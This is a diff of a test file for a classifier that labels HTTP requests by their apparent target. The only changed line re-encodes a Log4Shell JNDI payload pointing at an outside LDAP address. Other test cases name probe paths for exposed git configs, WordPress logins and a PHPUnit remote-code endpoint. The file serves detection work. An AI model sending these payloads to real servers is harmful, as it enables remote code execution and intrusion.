@@ -33,7 +33,7 @@ describe('what a request is after', () => {
     ['GET /.git/config', ['git']],
     ['POST /wp-login.php', ['wordpress']],
     ['GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', ['phpunit']],
-    ['GET /?x=${jndi:ldap://198.51.100.7/a}', ['log4shell']],
+    ['GET /?x=$\u007bjndi:ldap://198.51.100.7/a}', ['log4shell']],
     ['CONNECT example.com:443', ['proxy']],
     ['GET http://example.com/', ['proxy']],
     ['GET /', []],
